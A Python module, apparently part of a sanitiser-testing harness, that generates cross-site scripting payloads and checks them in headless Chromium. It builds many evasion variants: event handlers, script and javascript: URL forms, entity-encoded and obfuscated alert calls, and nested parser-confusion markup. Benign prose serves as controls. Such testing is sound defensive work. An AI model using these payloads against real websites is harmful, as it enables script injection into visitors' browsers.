"""Markup and scripts, executed by a headless Chromium: a dialogue is opened."""

from browser import Browser

NAME = "markup"
SAMPLED = 8

# Name, text before the value, text behind it, quote of the place.
TEMPLATES = (
    ("text", "<p>", "</p>", ""),
    ("attribute", '<p><input value="', '"></p>', '"'),
    ("attribute-single", "<p><input value='", "'></p>", "'"),
    ("unquoted", "<p><input value=", "></p>", " "),
    ("link", '<p><a href="', '">more</a></p>', ""),
    ("script-double", '<script>var x = "', '";</script>', '"'),
    ("script-single", "<script>var x = '", "';</script>", "'"),
    ("script-template", "<script>var x = `", "`;</script>", "`"),
    ("comment", "<!-- ", " -->", "-->"),
    ("textarea", "<textarea>", "</textarea>", "</textarea>"),
    ("handler", "<p onclick=\"show('", "')\">x</p>", "'"),
)

CALLS = (
    "alert(1)", "alert`1`", "confirm()", "prompt(1)", "print()", "top.alert(1)", "window['alert'](1)", "top['al'+'ert'](1)", "(alert)(1)",
    "self[`al`+`ert`]()", "eval('alert(1)')", "eval(atob('YWxlcnQoMSk='))", "[1].map(alert)", "alert?.(1)", "a=alert,a(1)", "setTimeout(alert)",
    "Function('alert(1)')()", "[].constructor.constructor('alert(1)')()", "\\u0061lert(1)", "al\\u0065rt(1)", "globalThis.alert(1)", "alert.call(null,1)",
    "throw onerror=alert,1", "onerror=alert;throw 1", "{onerror=alert}throw 1", "frames.alert()", "parent.confirm`1`", "Reflect.apply(alert,null,[])",
    "window[/al/.source+'ert']()", "import('data:text/javascript,alert(1)')", "new Function`alert\\`1\\``", "(()=>alert())()", "void alert()", "!alert()",
    "with(window)alert()", "for(;;){alert();break}", "document.body.innerHTML='<img src onerror=alert()>'", "Promise.resolve().then(alert)",
    "[]['filter']['constructor']('alert(1)')()", "this.alert()", "top[8680439..toString(30)](1)", "valueOf=alert;window+1", "location='javascript:alert()'",
)  # fmt: skip
TAGS = ("svg", "img", "body", "details", "video", "audio", "iframe", "input", "x", "a", "p", "custom-tag", "style", "marquee", "button", "object", "math",
        "select", "textarea", "form", "h1", "image", "embed", "link", "script", "source", "menu", "dialog", "svg><g", "video><source")  # fmt: skip
EVENTS = ("onload", "onerror", "onclick", "onmouseover", "ontoggle", "onfocus", "onpointerover", "onmouseenter", "onfocusin", "onwheel", "oncopy",
          "onbeforetoggle", "onanimationstart", "onbegin", "onkeydown", "onchange", "oninput", "ondblclick", "ondrag", "onblur")  # fmt: skip
EXTRAS = ("", "src=x", "src", "autofocus", "open", "tabindex=1", "contenteditable", "id=x", "href=x", "style=display:block", "title='>'", "data=x", "a=b",
          "popover", "class='tea'", "type=image")  # fmt: skip


def space(c):
    return c.of((" ", " ", "/", "\t", "\n", "\f", "  ", " / ", "\r\n", "//"))


def entities(c, text):
    """The text of an attribute with character references."""
    form = c.below(7)
    if form < 3:
        return text
    if form == 3:
        return text.replace("(", "&lpar;").replace(")", "&rpar;")
    at = c.below(len(text))
    reference = (f"&#{ord(text[at])};", f"&#x{ord(text[at]):x};", f"&#0000{ord(text[at])};")[form - 4]
    return text[:at] + reference + text[at + 1 :]


def attribute(c, name, text):
    quote = c.of(('"', "'", ""))
    text = entities(c, text)
    if not quote and any(letter in text for letter in " \"'>`\n"):
        quote = '"' if '"' not in text else "'"
    return c.case(name) + c.of(("=", "=", " = ", "\n=", "=\t")) + quote + text + quote


def handler(c):
    tag, extra = c.of(TAGS), c.of(EXTRAS)
    parts = [extra, attribute(c, c.of(EVENTS), c.of(CALLS))]
    if c.rarely(2):
        parts.reverse()
    text = "<" + c.case(tag)
    for part in parts:
        text += space(c) + part if part else ""
    return text + c.of((">", ">", ">x", "/>", " ", "\n", "//", "><"))


def script(c):
    call = c.of(CALLS)
    forms = (
        "<script>%s</script>", "<script>%s//", "<svg><script>%s</script>", "<script src='data:,%s'></script>", "<script/x>%s</script>",
        "<script type=module>%s</script>", "<script\n>%s</script >", "<script>/*x*/%s/*</script>", "<script src=data:text/javascript,%s></script>",
        "<svg><script>&#97;lert(1)</script></svg>", "<script>\n<!--\n%s\n--></script>", "<math><script>%s</script>", "<script defer>%s</script>",
        "</p><script>%s</script>", "<script language=x>%s</script>", "<script type=text/ecmascript>%s</script>",
    )  # fmt: skip
    return c.of(forms).replace("%s", call).replace("script", c.case("script"))


def scheme(c):
    text = c.of(("javascript:", "javascript:", "JavaScript:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "&#106;avascript:",
                 "javascript&colon;", "jav&#x09;ascript:", "javascript&#58;", "java&Tab;script:", "j&NewLine;avascript:"))  # fmt: skip
    return text + c.of(("", "", "//%0a", "void ", "/**/", "x=")) + c.of(CALLS)


def address(c):
    forms = (
        ("a", "href"), ("iframe", "src"), ("form><button formaction=x", "formaction"), ("svg><a xlink:href=x", "xlink:href"), ("object", "data"), ("embed", "src"),
        ("math><a", "href"), ("area", "href"), ("form", "action"), ("button", "formaction"), ("frame", "src"), ("input type=submit", "formaction"),
    )  # fmt: skip
    tag, name = c.of(forms)
    return "<" + c.case(tag) + space(c) + attribute(c, name, scheme(c)) + c.of((">x", ">", "><button>x"))


def nested(c):
    inner = c.of((handler, script))(c)
    forms = (
        "<iframe srcdoc='%s'>", "<noscript><p title='</noscript>%s'>", "<svg><style>%s", "<template>%s</template>", "<math><mtext><table><mglyph><style>%s",
        "<svg></p><style><a title='</style>%s'>", "<!--><p>%s", "<!--x--!>%s", "<![CDATA[%s]]>", "<select><option>%s", "<table>%s", "<title></title>%s",
        "<xmp></xmp>%s", "<textarea></textarea>%s", "<b><i>%s", "<plaintext/>%s", "<frameset>%s", "<svg><foreignObject>%s", "<div/%s",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>%s", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=9>x</text></a>%s",
    )  # fmt: skip
    form = c.of(forms)
    return form.replace("%s", inner.replace("'", "&#39;") if "'%s'" in form else inner)


CORES = {"handler": handler, "script": script, "address": address, "nested": nested}
PREFIXES = ("", "tea", "green tea & milk", "x", "1", "5 > 3 ", "Anna <3 ", "a\n")


def attack(c):
    at = c.below(len(TEMPLATES))
    name, _, _, quote = TEMPLATES[at]
    prefix = c.of(PREFIXES)
    if name == "link" and c.rarely(2):
        c.tags.append("scheme")
        return at, scheme(c)
    if name.startswith("script") or name == "handler":
        forms = {
            "statement": lambda c: quote + c.of((";", "-", "+", ",", "\n", "|", "*", "?", "&&", "==", "/")) + c.of(CALLS) + c.of(("//", "-" + quote, ";" + quote, "+" + quote, "/*", "\n//", "<!--")),
            "substitution": lambda c: "${" + c.of(CALLS) + "}",
            "end-of-script": lambda c: c.of(("</script>", "</script >", "</SCRIPT\n>", "</script/x>")) + c.tagged(CORES),
        }  # fmt: skip
        if name == "handler":
            forms = {"statement": lambda c: c.of(("'", "&#39;", "&apos;", "\"><x onclick='")) + c.of((");", "-", "+", "),")) + c.of(CALLS) + c.of(("//", "-'", ";('"))}
        return at, prefix + c.tagged(forms)
    if name.startswith("attribute") or name == "unquoted":
        forms = {
            "out-of-tag": lambda c: quote + ">" + c.tagged(CORES),
            "new-attribute": lambda c: quote + c.of(("", " ", "/", "\t")) + c.of(("", "autofocus ", "tabindex=1 ")) + attribute(c, c.of(EVENTS), c.of(CALLS)) + c.of(("", " ", " x=" + quote, "//")),
        }
        return at, prefix + c.tagged(forms)
    closing = quote or ('">' if name == "link" else "")
    return at, prefix + closing + c.tagged(CORES)


PROSE = (
    "a < b and c > d", "I <3 tea", "<b>bold</b>", "see <a href=\"/tea\">tea</a>", "5 < 6 > 4", "<p>text</p>", "use <script> tags with care", "x<y",
    "on load = fast", "onclick handlers are old", "the alert(s) of today", "Anna <anna@example.com>", "<your name>", "if (a<b) alert the team",
    "javascript: the good parts", "<br>", "List<String> names", "std::vector<int> v", "=> <=", "<!-- note -->", "img src and alt", "\"quoted\" > text",
    "<img src=\"cat.png\" alt=\"cat\">", "don't confirm('maybe')", "<3 <3 <3", "f(x) = x; g(x) < 3", "<table><tr><td>1</td></tr></table>", "print() works",
)  # fmt: skip


def honest(c):
    text = c.of(PROSE)
    for _ in range(c.below(3)):
        text += c.of((" ", "; ", ", ", " - ", "\n", " and ")) + c.of(PROSE)
    return text + c.of(("", ".", "!", " (draft)", " thanks"))


class Oracle:
    def __init__(self):
        self.browser = Browser()
        self.works = self.effect(0, "<img src onerror=alert()>") is not None
        if not self.works:
            print("left out: markup (no Chromium that starts)")

    def effects(self, pairs):
        documents = [TEMPLATES[at][1] + value + TEMPLATES[at][2] for at, value in pairs]
        # A script that reaches for the outermost window runs alone, so that its dialogue is its own.
        alone = [at for at, document in enumerate(documents) if "top" in document or "parent" in document]
        others = [at for at in range(len(documents)) if at not in set(alone)]
        found = [None] * len(documents)
        for batch in [[at] for at in alone] + [others[start : start + 25] for start in range(0, len(others), 25)]:
            for at, effect in zip(batch, self.browser.effects([documents[at] for at in batch])):
                found[at] = effect
        return found

    def effect(self, at, value):
        return self.effects([(at, value)])[0]

    def close(self):
        self.browser.close()
